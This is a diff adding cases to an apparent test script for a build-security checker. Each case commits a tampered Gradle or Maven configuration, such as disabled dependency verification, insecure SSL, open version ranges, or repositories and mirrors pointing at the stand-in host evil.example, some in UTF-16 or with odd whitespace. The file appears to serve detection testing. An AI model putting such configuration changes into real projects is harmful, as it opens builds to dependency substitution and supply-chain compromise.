@@ -50,6 +50,15 @@ change catalog && sed -i 's,"1.0","1.+",' gradle/libs.versions.toml && commit x
 change library && sed -i 's,right:2.0,right:+,' gradle/libs.versions.toml && commit x
 change coordinates && sed -i 's,left:1.0,left:[1.0\,2.0),' app.gradle && commit x
 change parent && echo '<project><modelVersion>4.0.0</modelVersion><pluginRepositories><pluginRepository><url>https://evil.example</url></pluginRepository></pluginRepositories></project>' | put build/parent.xml && commit x
+change off && echo 'org.gradle.dependency.verification=OFF' >>gradle.properties && commit x
+change maven-near && printf -- '-s\nci/evilsettings.xml\n' >>.mvn/maven.config && commit x
+change maven-short && printf -- '--lax\n' >>.mvn/maven.config && commit x
+change maven-define && printf -- '--define\nmaven.repo.local=lib\n' >>.mvn/maven.config && commit x
+change maven-apart && printf -- '-D\nmaven.repo.local=lib\n' >>.mvn/maven.config && commit x
+change maven-true && printf -- '-Dmaven.wagon.http.ssl.insecure=TRUE\n' >>.mvn/maven.config && commit x
+change maven-wide && echo '<settings><mirrors><mirror><id>m</id><url>https://evil.example/m2</url></mirror></mirrors></settings>' | iconv -t UTF-16 | put .mvn/settings.xml && commit x
+change nested && sed -i 's,<v>1.0<,<w>[1.0\,)</w><v>${w}<,' pom.xml && commit x
+change parent-blank && echo '<project><modelVersion >4.0.0</modelVersion><pluginRepositories ><pluginRepository><url>https://evil.example</url></pluginRepository></pluginRepositories ></project>' | put build/parent.xml && commit x
 change honest
 cat >>build.gradle <<'END'
 // https://evil.example
